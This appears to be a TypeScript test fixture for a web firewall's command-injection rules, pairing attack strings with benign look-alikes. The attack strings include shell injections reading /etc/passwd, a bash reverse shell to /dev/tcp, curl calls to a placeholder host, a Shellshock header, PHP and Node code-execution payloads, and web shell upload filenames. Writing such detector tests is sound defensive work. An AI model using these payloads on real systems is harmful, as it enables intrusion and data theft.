import { header, type RuleCase, type RuleCases } from './cases.ts';

export const commandCases: RuleCases = {
  103010: {
    attacks: ['1.1.1.1; whoami', '$(curl http://x.example/)', 'a|/usr/bin/wget x', { body: { host: 'a\nnslookup x.example' } }],
    benign: ['curl and wget are tools', 'R&D; bashful', 'x|netstation'],
  },
  103011: {
    attacks: ['a; cat /etc/passwd', 'x && ping -c 1 x', '|| echo hello;', '| dir c:/', '`python3 -c 1`'],
    benign: ['tea; cat food', 'sleep | eat', 'drinks & more /', 'a; find your way'],
  },
  103012: { attacks: ['a;id|', '| dir |', ';ls;', 'x;id'], benign: ['a; date', 'who | where', 'id;name;price'] },
  103013: {
    attacks: [
      'cat$IFS/etc/passwd',
      'cmd /c dir',
      'bash -i >& /dev/tcp/1.2.3.4/99',
      ';/bin/sh -i',
      '{cat,/etc/hosts}',
      'powershell -enc AAAA',
    ],
    benign: ['{echo}', 'the command /c', '/dev/null', 'powershell is nice'],
  },
  103014: { attacks: [header('User-Agent', '() { :;}; /bin/id')], benign: [header('User-Agent', 'Mozilla/5.0 (X11) { }')] },
  103020: {
    attacks: ['<?php system("id");', ";system('id')", 'eval($_POST[1])', 'phpinfo()'],
    benign: ["if (!isset($_GET['id'])) die('no');", '<?xml version="1.0"?>', 'eval(x)'],
  },
  103021: { attacks: ['<!--#exec cmd="ls"-->', '<esi:include src="x"/>'], benign: ['<!-- # a comment -->', '<!-- exec -->'] },
  103022: {
    attacks: ["require('child_process').exec('id')", 'process.mainModule.require', "__import__('os')", "os.system('id')", '"id".execute()'],
    benign: ["require('node:fs')", 'the process is binding', 'import os', 'os.path.join()'],
  },
  103030: {
    attacks: [upload('a.php'), upload('a.php;.png'), upload('shell.jsp')],
    benign: [upload('photo.png'), upload('php.pdf'), upload('a.phps.txt')],
  },
  103040: { attacks: ['`x y`', '$(x)', 'a > /tmp/x'], benign: ['5 > 3', 'costs $5 (or less)'] },
  103041: { attacks: ['eval(1)', 'spawn ("x")'], benign: ['evaluate(1)', 'the system (a)'.replace('system (', 'systems (')] },
  103050: { attacks: ['a; foo'], benign: ['a, foo'] },
};

/** A multipart upload of one file. */
function upload(filename: string): RuleCase {
  const body = `--b\r\nContent-Disposition: form-data; name="f"; filename="${filename}"\r\n\r\ntext\r\n--b--\r\n`;
  return { body, headers: { 'Content-Type': 'multipart/form-data; boundary=b' } };
}
